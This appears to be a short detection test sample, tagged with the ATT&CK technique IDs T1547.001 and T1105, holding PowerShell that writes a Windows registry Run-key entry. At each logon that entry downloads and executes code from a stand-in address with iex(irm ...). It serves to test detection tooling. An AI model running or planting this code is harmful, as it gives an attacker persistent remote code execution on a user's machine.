# expect: T1547.001 T1105
$k = [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey("Software\Microsoft\Windows\CurrentVersion\Run", $true)
$k.SetValue("x", "powershell -c iex(irm http://198.51.100.1/k)")
